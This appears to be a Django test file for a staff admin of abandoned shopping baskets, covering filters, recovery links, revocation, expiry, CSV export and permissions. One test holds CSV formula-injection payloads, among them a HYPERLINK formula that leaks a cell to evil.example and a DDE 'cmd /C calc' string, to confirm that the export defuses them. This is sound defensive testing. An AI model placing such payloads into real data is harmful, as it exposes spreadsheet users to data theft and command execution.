"""The basket admin for staff: filters, search, the links with their copy button, and the actions
(revoke links, expire, export abandoned baskets as CSV) that go through the services."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta
from unittest import mock

import pytest
from django.contrib.admin import helpers
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from baskets.links import LinkKind, link_path, recovery_link
from baskets.models import Basket, BasketEvent, BasketStatus
from partners.models import Partner
from tests.factories import BasketFactory, CustomerFactory, OrderItemFactory, UserFactory

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:baskets_basket_changelist")


def change_url(basket: Basket) -> str:
    return reverse("admin:baskets_basket_change", args=[basket.pk])


@pytest.fixture
def staff():
    return UserFactory(is_staff=True, is_superuser=True)


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def listed(response) -> list[Basket]:
    assert response.status_code == 200
    return list(response.context["cl"].result_list)


def made_on(day: int, **fields) -> Basket:
    created = datetime(2025, 3, day, 12, tzinfo=UTC)
    return BasketFactory(created=created, expires_at=created + timedelta(days=14), **fields)


# --- Filters and search --------------------------------------------------------------------------


@pytest.fixture
def baskets():
    partner = Partner.objects.create(name="Acme", slug="acme")
    return {
        "active": made_on(1, email="a@example.com"),
        "completed": made_on(5, email="c@example.com", status=BasketStatus.COMPLETED),
        "expired": made_on(10, status=BasketStatus.EXPIRED, external_id="crm-77"),
        "partner": made_on(20, partner=partner, order_type="renew", email="p@example.com"),
    }


@pytest.mark.parametrize(
    "query, expected",
    [
        ({"status__exact": "completed"}, ["completed"]),
        ({"abandoned": "open"}, ["partner", "expired", "active"]),
        ({"abandoned": "yes"}, []),  # long over: none is still open (test_recovery_admin has the recent ones)
        ({"abandoned": "no"}, ["completed"]),
        ({"order_type__exact": "renew"}, ["partner"]),
        ({"has_email": "yes"}, ["partner", "completed", "active"]),
        ({"has_email": "no"}, ["expired"]),
        ({"created__date__gte": "2025-03-05", "created__date__lte": "2025-03-10"}, ["expired", "completed"]),
        ({"created__date__gte": "2025-03-10"}, ["partner", "expired"]),
        ({"abandoned": "open", "created__date__lte": "2025-03-09"}, ["active"]),
        ({"created__year": "2025", "created__month": "3", "created__day": "20"}, ["partner"]),
        ({"q": "crm-77"}, ["expired"]),
        ({"q": "c@example.com"}, ["completed"]),
    ],
)
def test_filters_and_search(staff_client, baskets, query, expected):
    response = staff_client.get(CHANGELIST, query)

    assert listed(response) == [baskets[name] for name in expected]


def test_the_partner_filter(staff_client, baskets):
    partner = baskets["partner"].partner
    assert listed(staff_client.get(CHANGELIST, {"partner__id__exact": partner.pk})) == [baskets["partner"]]


def test_the_date_range_filter_is_a_form_that_keeps_the_other_filters(staff_client, baskets):
    page = staff_client.get(CHANGELIST, {"abandoned": "open", "created__date__gte": "2025-03-02"}).content.decode()

    assert '<form method="get" class="date-range-filter" aria-label="Filter by created">' in page
    assert '<input type="hidden" name="abandoned" value="open">' in page
    assert '<label for="filter-created__date__gte">From</label>' in page
    assert 'name="created__date__gte" value="2025-03-02"' in page
    assert '<input type="date" id="filter-created__date__lte" name="created__date__lte" value="">' in page


def test_a_malformed_date_is_the_admins_error_redirect(staff_client, baskets):
    response = staff_client.get(CHANGELIST, {"created__date__gte": "yesterday"})

    assert response.status_code == 302
    assert response["Location"].endswith("?e=1")


# --- The change page: links and copy buttons ----------------------------------------------------------


def test_the_change_page_shows_the_links_as_text_with_copy_buttons(staff_client, offer):
    basket = BasketFactory(customer=CustomerFactory())
    OrderItemFactory(basket=basket, offer=offer)
    BasketEvent.objects.create(basket=basket, kind="created", version=1)

    # Links carry a timestamp: one frozen signing clock makes the page's links and the expected ones
    # equal even when the second ticks over between them.
    with mock.patch("django.core.signing.time.time", return_value=time.time()):
        response = staff_client.get(change_url(basket))
        recover = f"http://testserver{link_path(basket, LinkKind.RECOVER)}".replace("&", "&amp;")
        assisted = f"http://testserver{link_path(basket, LinkKind.ASSISTED)}".replace("&", "&amp;")

    assert response.status_code == 200
    page = response.content.decode()
    assert (
        f'<code id="recovery-link" class="basket-link-url" aria-labelledby="recovery-link-label">{recover}</code>'
        in page
    )
    assert f'data-link="{recover}" data-copy-target="recovery-link"' in page
    assert (
        f'<code id="assisted-link" class="basket-link-url" aria-labelledby="assisted-link-label">{assisted}</code>'
        in page
    )
    assert '<script src="/static/baskets/admin/basket_links.js"></script>' in page
    assert '<h2 id="basket-timeline-heading" class="fieldset-heading">History</h2>' in page
    # Actions on the change page (Django 6.1) go through the same services.
    assert 'value="revoke_links"' in page


def test_a_basket_without_an_owner_has_no_assisted_link(staff_client):
    basket = BasketFactory()
    page = staff_client.get(change_url(basket)).content.decode()
    assert 'id="recovery-link"' in page
    assert 'id="assisted-link"' not in page


def test_a_finished_basket_says_its_links_no_longer_work(staff_client):
    basket = BasketFactory(status=BasketStatus.COMPLETED)
    page = staff_client.get(change_url(basket)).content.decode()
    assert "This basket is completed: its links show the customer an error page." in page


# --- Actions ----------------------------------------------------------------------------------------


def run_action(client, action: str, baskets, url: str = CHANGELIST):
    return client.post(url, {"action": action, helpers.ACTION_CHECKBOX_NAME: [str(b.pk) for b in baskets]})


def test_revoking_links_makes_the_old_links_fail(staff_client, client, staff):
    basket = BasketFactory()
    old_link = recovery_link(basket)
    version = basket.version

    response = run_action(staff_client, "revoke_links", [basket])

    assert response.status_code == 302
    basket.refresh_from_db()
    assert basket.version == version  # the order did not change
    event = BasketEvent.objects.get(basket=basket)
    assert (event.kind, event.staff_user) == ("links_revoked", staff)
    refused = client.get(old_link)
    assert refused.status_code == 400
    assert "<code>link_revoked</code>" in refused.content.decode()
    assert client.get(recovery_link(basket)).status_code == 302


def test_revoking_from_the_change_page(staff_client):
    basket = BasketFactory()
    old_link = recovery_link(basket)

    response = staff_client.post(
        change_url(basket),
        {"CHANGE_FORM-action": "revoke_links", helpers.ACTION_CHECKBOX_NAME: [str(basket.pk)]},
    )

    assert response.status_code == 302
    assert BasketEvent.objects.filter(basket=basket, kind="links_revoked").count() == 1
    assert staff_client.get(old_link).status_code == 400


def test_expiring_goes_through_the_status_machine(staff_client, staff):
    active = BasketFactory()
    completed = BasketFactory(status=BasketStatus.COMPLETED)

    response = run_action(staff_client, "expire_baskets", [active, completed])

    assert response.status_code == 302
    active.refresh_from_db()
    completed.refresh_from_db()
    assert (active.status, active.version) == (BasketStatus.EXPIRED, 2)
    assert completed.status == BasketStatus.COMPLETED
    event = BasketEvent.objects.get(basket=active)
    assert (event.kind, event.staff_user, event.data) == ("expired", staff, {"reason": "staff"})
    notes = [str(m) for m in staff_client.get(CHANGELIST).context["messages"]]
    assert notes == ["Expired 1 basket(s).", "Left 1 basket(s) alone: already completed or expired."]


def test_exporting_the_selected_abandoned_baskets_as_csv(staff_client, client, offer, add_on):
    abandoned = BasketFactory(email="ada@example.com", first_name="Ada", external_id="crm-1")
    parent = OrderItemFactory(basket=abandoned, offer=offer, quantity=2)
    OrderItemFactory(basket=abandoned, offer=add_on, parent=parent, position=1)
    expired = BasketFactory(status=BasketStatus.EXPIRED, created=timezone.now() - timedelta(days=20))
    completed = BasketFactory(status=BasketStatus.COMPLETED)
    BasketFactory()  # not selected

    with mock.patch("django.core.signing.time.time", return_value=time.time()):  # links carry a timestamp
        response = run_action(staff_client, "export_abandoned_csv", [abandoned, expired, completed])
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        expected_link = f"http://testserver{recovery_link(abandoned)}"

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="abandoned-baskets-')
    assert [row["id"] for row in rows] == [expired.public_id, abandoned.public_id]  # oldest first
    row = rows[1]
    assert (row["status"], row["email"], row["first_name"], row["external_id"]) == (
        "active", "ada@example.com", "Ada", "crm-1",
    )  # fmt: skip
    assert row["order_items"] == "Digital monthly x2; Crossword x1"
    assert row["recovery_link"] == expected_link
    assert client.get(row["recovery_link"]).status_code == 302


def test_the_export_defuses_cells_a_spreadsheet_would_run_as_formulas(staff_client):
    # Customers type these fields themselves (initiate, the hosted page): CSV/formula injection.
    basket = BasketFactory(
        first_name='=HYPERLINK("http://evil.example/?"&A2,"Click")', last_name="+1+cmd|' /C calc'!A0",
        company_name="@SUM(1+1)", external_id="-2+3", email="ada@example.com", phone="\t=1+1",
    )  # fmt: skip

    response = run_action(staff_client, "export_abandoned_csv", [basket])

    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["first_name"] == """'=HYPERLINK("http://evil.example/?"&A2,"Click")"""
    assert row["last_name"] == "'+1+cmd|' /C calc'!A0"
    assert row["company_name"] == "'@SUM(1+1)"
    assert row["external_id"] == "'-2+3"
    assert row["phone"] == "'\t=1+1"
    assert row["email"] == "ada@example.com"  # ordinary values are untouched
    assert row["id"] == basket.public_id


def test_the_export_reads_a_fixed_number_of_queries(staff_client, offer, django_assert_max_num_queries):
    def export(count):
        baskets = [BasketFactory() for _ in range(count)]
        for basket in baskets:
            OrderItemFactory(basket=basket, offer=offer)
        response = run_action(staff_client, "export_abandoned_csv", baskets)
        # The rows are read while the response streams.
        with django_assert_max_num_queries(3) as captured:
            body = b"".join(response.streaming_content).decode()
        assert body.count("\n") == count + 1
        return len(captured.captured_queries)

    assert export(2) == export(20)


def test_view_only_staff_cannot_revoke_or_expire(client):
    viewer = UserFactory(is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_basket"))
    client.force_login(viewer)
    basket = BasketFactory()
    before = (basket.link_nonce, basket.status)

    page = client.get(CHANGELIST)
    choices = [value for value, _ in page.context["action_form"].fields["action"].choices]
    refusals = []
    for action in ("revoke_links", "expire_baskets"):
        answer = run_action(client, action, [basket])
        # Refused as an action the form does not offer: back to the list, which shows the warning.
        assert answer.status_code == 302
        back = client.get(answer["Location"])
        refusals.append([str(message) for message in back.context["messages"]])

    assert choices == ["", "export_abandoned_csv"]
    assert refusals == [["No action selected."], ["No action selected."]]
    basket.refresh_from_db()
    assert (basket.link_nonce, basket.status) == before
    assert not BasketEvent.objects.exists()
